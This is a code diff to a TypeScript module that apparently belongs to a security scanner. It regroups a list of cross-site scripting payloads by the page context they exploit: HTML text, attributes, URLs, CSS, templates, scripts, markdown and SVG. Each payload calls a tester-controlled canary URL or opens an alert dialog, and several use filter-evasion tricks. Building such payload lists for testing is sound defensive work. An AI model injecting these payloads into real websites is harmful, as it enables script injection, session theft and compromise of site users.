@@ -1,31 +1,72 @@
 /**
- * Returns texts that run a script where a page writes them as HTML, as an attribute or as an address. Each asks `canary`, opens a
- * dialog, or both. They fit 100 characters.
+ * Texts that run a script or ask the canary, by the place in a page in which they would do so if they were written there as they
+ * are. `call` is a script that asks the canary, `canary` its address without the scheme.
  */
-export function scriptPayloads(canary: string): string[] {
-  const call = `fetch('${canary}')`
-  const asks = [
+const contexts: Readonly<Record<string, (call: string, canary: string) => readonly string[]>> = {
+  text: (call, canary) => [
     `<script>${call}</script>`,
     `<ScRiPt >${call}</sCrIpT>`,
     `<script src=${canary}></script>`,
     `<script src=${canary}//`,
-    `"><script>${call}</script>`,
-    `'><script>${call}</script>`,
-    `</title><script>${call}</script>`,
-    `</textarea><script>${call}</script>`,
-    `</script><script>${call}</script>`,
-    `</style><script>${call}</script>`,
-    `--><script>${call}</script>`,
-    `]]><script>${call}</script>`,
     `<scr<script>ipt>${call}</scr</script>ipt>`,
     `<img src=x onerror="${call}">`,
     `<img src=${canary}>`,
     `<img srcset=${canary}>`,
     `<img/src=x/onerror=${call}>`,
     `<IMG SRC=x oNeRrOr=${call}>`,
+    `<image src=x onerror="${call}">`,
+    `<math><mtext><img src=x onerror=${call}>`,
+    `<body onload=${call}>`,
+    `<object data=${canary}></object>`,
+    `<embed src=${canary}>`,
+    `<video src=${canary} autoplay></video>`,
+    `<video><source onerror=${call}></video>`,
+    `<audio src=x onerror=${call}>`,
+    `<meta http-equiv=refresh content="0;url=${canary}">`,
+    `<base href=${canary}/>`,
+    `<form action=${canary}><button autofocus onfocus=${call}>`,
+    `<input autofocus onfocus=${call}>`,
+    `<details open ontoggle=${call}>`,
+    `<marquee onstart=${call}>`,
+    `&lt;img src=x onerror=${call}&gt;`,
+    '<img src=x onerror=alert(1)>',
+  ],
+  element: (call) => [
+    `</title><script>${call}</script>`,
+    `</textarea><script>${call}</script>`,
+    `--><script>${call}</script>`,
+    `]]><script>${call}</script>`,
+    `<template><img src=x onerror=${call}></template>`,
+    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  ],
+  attribute: (call) => [
+    `"><script>${call}</script>`,
+    `'><script>${call}</script>`,
     `"><img src=x onerror="${call}">`,
     `'><img src=x onerror=${call}//`,
-    `<image src=x onerror="${call}">`,
+    `" autofocus onfocus=${call} x="`,
+    `' onmouseover=${call} x='`,
+  ],
+  address: (call, canary) => [
+    'javascript:alert(1)',
+    ' JaVaScRiPt:alert(1)',
+    'data:text/html,<script>alert()',
+    `<iframe src="javascript:${call}">`,
+    `<iframe src=${canary}></iframe>`,
+    `<iframe srcdoc="<script>${call}</script>">`,
+  ],
+  style: (call, canary) => [
+    `</style><script>${call}</script>`,
+    `<link rel=stylesheet href=${canary}>`,
+    `<style>@import '${canary}';</style>`,
+    `<style>*{background:url(${canary})}</style>`,
+    `<b style="background:url(${canary})">b</b>`,
+    `red;background:url(${canary})`,
+  ],
+  template: (call) => [`{{constructor.constructor("${call}")()}}`, `\${${call}}`],
+  script: (call) => [`</script><script>${call}</script>`, `"}]);${call}//`, `\u2028${call}//`, "'-alert(1)-'"],
+  markdown: (_call, canary) => [`![x](${canary})`, '[x](javascript:alert(1))', `[x]: ${canary} "x"`],
+  svg: (call, canary) => [
     `<svg onload="${call}">`,
     `<svg/onload=${call}>`,
     `<svg><script>${call}</script></svg>`,
@@ -33,42 +74,11 @@ export function scriptPayloads(canary: string): string[] {
     `<svg><image href=${canary} /></svg>`,
     `<svg><use href=${canary}#a /></svg>`,
     `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
-    `<math><mtext><img src=x onerror=${call}>`,
-    `<body onload=${call}>`,
-    `<iframe src=${canary}></iframe>`,
-    `<iframe src="javascript:${call}">`,
-    `<iframe srcdoc="<script>${call}</script>">`,
-    `<object data=${canary}></object>`,
-    `<embed src=${canary}>`,
-    `<video src=${canary} autoplay></video>`,
-    `<video><source onerror=${call}></video>`,
-    `<audio src=x onerror=${call}>`,
-    `<link rel=stylesheet href=${canary}>`,
-    `<style>@import '${canary}';</style>`,
-    `<style>*{background:url(${canary})}</style>`,
-    `<b style="background:url(${canary})">b</b>`,
-    `<meta http-equiv=refresh content="0;url=${canary}">`,
-    `<base href=${canary}/>`,
-    `<form action=${canary}><button autofocus onfocus=${call}>`,
-    `<input autofocus onfocus=${call}>`,
-    `" autofocus onfocus=${call} x="`,
-    `' onmouseover=${call} x='`,
-    `<details open ontoggle=${call}>`,
-    `<marquee onstart=${call}>`,
-    `<template><img src=x onerror=${call}></template>`,
-    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
-    `{{constructor.constructor("${call}")()}}`,
-    `\${${call}}`,
-    `&lt;img src=x onerror=${call}&gt;`,
-  ]
-  return [...asks, ...shortPayloads]
+    '<svg onload=alert(1)>',
+  ],
 }
 
-/** The same in at most 30 characters. */
-const shortPayloads: readonly string[] = [
-  'javascript:alert(1)',
-  'data:text/html,<script>alert()',
-  '<svg onload=alert(1)>',
-  '<img src=x onerror=alert(1)>',
-  "'-alert(1)-'",
-]
+/** Returns the texts of all contexts, each of at most 100 characters. Each asks `canary`, opens a dialog, or both. */
+export function scriptPayloads(canary: string): string[] {
+  return Object.values(contexts).flatMap((write) => write(`fetch('${canary}')`, canary))
+}
